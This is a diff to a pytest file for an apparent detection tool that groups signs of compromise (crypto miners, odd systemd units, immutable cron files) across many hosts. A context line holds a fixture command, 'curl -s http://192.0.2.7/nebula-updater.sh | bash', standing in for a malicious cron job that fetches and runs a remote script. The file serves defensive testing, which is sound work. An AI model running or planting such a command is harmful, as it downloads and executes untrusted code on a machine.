@@ -41,6 +41,18 @@ def test_miners_that_are_paid_apart_are_no_roll_out_and_a_misfire_keeps_nobody_f
     assert told(report) == [["c0", "c1"]] and [each["host"] for each in report["next"]] == ["h3"]
 
 
+def test_what_is_alike_on_many_hosts_is_told_with_all_that_was_found_there(tmp_path: Path, names: Names) -> None:
+    lines = []
+    for n in range(6):
+        unit = {"unit": f"agent{n}.service", "path": f"/etc/systemd/system/agent{n}.service", "evidence": "x"}
+        file = {"path": f"/etc/cron.d/site{n}", "flags": "i", "is_immutable": "1", "kind": "file", "evidence": "x"}
+        lines.append(line("systemd_unit_odd_program", 1, T + n * DAY, "added", f"h{n}", **unit))
+        lines.append(line("immutable_persistence_file", 1, T, "added", f"h{n}", **file))
+    (alike,) = reported(tmp_path, names, lines)["alike"]
+    assert alike["query"] == "immutable_persistence_file systemd_unit_odd_program"
+    assert [host["host"] for host in alike["hosts"]] == [f"h{n}" for n in range(6)]
+
+
 def test_a_job_that_came_with_miners_joins_also_the_hosts_on_which_none_was_seen(tmp_path: Path, names: Names) -> None:
     lines = [_job(f"h{n}", T + 60 * n, "curl -s http://192.0.2.7/nebula-updater.sh | bash") for n in range(9)]
     lines += [miner(f"h{n}", T + 60 * n + 30, wallet=f"4w{n}") for n in range(4)]
